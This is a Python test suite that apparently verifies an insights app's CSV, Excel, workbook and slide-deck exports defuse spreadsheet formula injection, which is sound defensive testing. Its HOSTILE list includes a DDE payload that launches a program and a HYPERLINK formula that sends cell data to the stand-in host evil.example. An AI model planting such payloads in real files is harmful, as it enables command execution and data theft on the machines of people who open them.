"""Names that a spreadsheet would run as formulas stay text in every file that is written."""

import csv
import io
import json
import re
import zipfile
from datetime import UTC, datetime

import pandas as pd
import plotly.graph_objects as go
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pptx import Presentation
from python_calamine import CalamineWorkbook

from data_access.predictions import write_predictions
from insights.charts.theme import as_text
from insights.exports.deck import deck
from insights.exports.page_report import Chart, PageReport, PageStamp, Section, Table
from insights.exports.quarantine import mendable_csv
from insights.exports.table_files import Stamp, csv_file, excel_file, safe_frame, sheet_name
from insights.exports.workbook import workbook
from insights.views.people import people_csv
from insights.views.table import Column

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "|cmd",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\ufeff=1",
    "\u200b=1",
    "\u202e=1",
    "\u3000＝1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "x;=1+1",
    "x; =1+1;y",
    "x\t=1+1",
    "x\n=1+1",
    '";=1+1;"',
    '",=1+1,"',
    "'=1",
    "DDE",
    "-",
    "--",
    "=",
)
NOW = datetime(2026, 11, 22, tzinfo=UTC)
RUNS = re.compile(
    r"[\s\x00-\x20\xa0\ufeff\u200b-\u200f\u2028-\u202e\u2060-\u206f]*[=+\-@|＝＋－＠]"
)
# A number may stand before a comma that another reader takes for a part of the same cell.
NUMBER = re.compile(r"[+-]?\d[\d.,]*%?(,.*)?|\d{4}-\d\d-\d\d.*")

names = st.sampled_from(HOSTILE) | st.text(
    st.sampled_from([*"=+-@|;,\t\r\n\"' ab1", "\ufeff", "\u200b", "＝", "＠"]), max_size=12
)


def formulas(content):
    """Return the cells of a CSV file that would run, whichever separator the reader takes."""
    text = content.decode("utf-8-sig")
    return [
        cell
        for separator in ",;\t"
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)
        for cell in row
        if RUNS.match(cell) and not NUMBER.fullmatch(cell)
    ]


def table(names):
    rows = pd.DataFrame({"name": pd.Series(names, dtype="str"), "users": range(len(names))})
    labels = [name for name in names if name.strip()] or ["x"]
    return rows, (Column("name", labels[0]), Column("users", "Users", "count", help=labels[-1]))


def stamp(text):
    return Stamp(text, text, ((text, text),), text, NOW, text)


@given(st.lists(names, min_size=1, max_size=4))
def test_csv_of_a_table(told):
    assert not formulas(csv_file(*table(told), stamp(told[0])))


@given(st.lists(names, min_size=1, max_size=4))
def test_csv_of_quarantined_rows(told):
    rows = pd.DataFrame(
        {
            "quarantine_id": range(len(told)),
            "raw_row": [json.dumps({told[0]: name}) for name in told],
            "message": told,
        }
    )
    assert not formulas(mendable_csv(rows))


@given(names)
def test_csv_of_people_and_of_frames(name):
    person = {
        "email": name,
        "name": name,
        "role": "sales",
        "partner_ids": json.dumps([name]),
        "tenant_ids": "[]",
        "hours_per_week": 5.0,
        "is_active": True,
    }
    assert not formulas(people_csv(pd.DataFrame([person])))
    rows = pd.DataFrame({"name": [name, None], "users": [1, 2]})
    written = safe_frame(rows).to_csv(index=False)
    assert not formulas(written.encode())
    assert list(safe_frame(rows).columns) == ["name", "users"]


def test_csv_of_predictions(tmp_path):
    rows = pd.DataFrame({"tenant_id": list(HOSTILE), "chance": [0.5] * len(HOSTILE)})
    write_predictions(rows, tmp_path / "predictions.csv")
    assert not formulas((tmp_path / "predictions.csv").read_bytes())


def test_harmless_text_is_not_touched():
    told = ["Contoso", "Contoso; Ltd", "a-b", "-5", "+49.5%", "1,234", "it's = fine", "—", "a|b"]
    assert safe_frame(pd.DataFrame({"name": told}))["name"].tolist() == told


def runs_anything(content):
    """Return whether a workbook has formulas, links or names that lead elsewhere."""
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return any(
            re.search(rb"<f>|<f |<hyperlink|<definedName [^>]*>(?!'|\w+!)|ddeLink", text)
            for name in packed.namelist()
            if name.startswith(("xl/worksheets/", "xl/workbook", "xl/externalLinks"))
            for text in [packed.read(name)]
        )


def cells(content):
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    return [row for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python()]


@given(st.lists(names, min_size=1, max_size=4))
def test_excel_of_a_table(told):
    content = excel_file(*table(told), stamp(told[0]))
    assert not runs_anything(content)
    read = [row[0].replace("\r", "\n") for row in cells(content)[1 : len(told) + 1]]
    assert read == [name.replace("\r", "\n") for name in told]


def report(told):
    figure = go.Figure(
        {
            "data": [
                {
                    "type": "bar",
                    "name": as_text(name),
                    "x": list(map(as_text, told)),
                    "y": [1] * len(told),
                }
                for name in told
            ],
            "layout": {
                "xaxis": {"title": {"text": told[0]}},
                "yaxis": {"title": {"text": told[0]}},
            },
        }
    )
    rows, columns = table(told)
    made = PageStamp(told[0], told[0], ((told[0], told[0]),), (), told[0], told[0], told[0], NOW)
    items = (
        Chart("chart", told[0], figure),
        Table("list", told[0], rows, columns, told[0], lambda: rows),
    )
    return PageReport(told[0], (Section(told[0], 1, items),), made)


# A chart with the same name twice has no native form of its own; each name once here.
MANY = [list(HOSTILE[start : start + 4]) for start in range(0, len(HOSTILE), 4)]


@pytest.mark.parametrize("told", MANY)
def test_workbook_of_a_page(told):
    content = workbook(report(told))
    assert not runs_anything(content)
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        charts = [
            packed.read(name).decode() for name in packed.namelist() if "charts/chart" in name
        ]
    references = [each for chart in charts for each in re.findall("<c:f>([^<]*)</c:f>", chart)]
    assert references
    assert all(
        re.fullmatch(r"(?:'[^']*(?:''[^']*)*'|\w+)![$A-Z0-9:]+", each) for each in references
    )


@pytest.mark.parametrize("told", MANY)
def test_workbooks_within_a_deck(told):
    shown = Presentation(io.BytesIO(deck(report(told))))
    kept = [
        shape.chart.part.chart_workbook.xlsx_part.blob
        for slide in shown.slides
        for shape in slide.shapes
        if shape.has_chart
    ]
    assert kept
    for content in kept:
        assert not runs_anything(content)
        assert len(cells(content)) > 1


@given(st.lists(names | st.text(max_size=40), max_size=5))
def test_sheet_names_are_what_excel_takes(titles):
    taken = {"about"}
    given_names = [sheet_name(title, taken) for title in titles]
    assert len({name.lower() for name in given_names}) == len(titles)
    for name in given_names:
        assert 1 <= len(name) <= 31
        assert name.isprintable()
        assert not set(name) & set("[]:*?/\\")
        assert not name.startswith("'")
        assert not name.endswith("'")
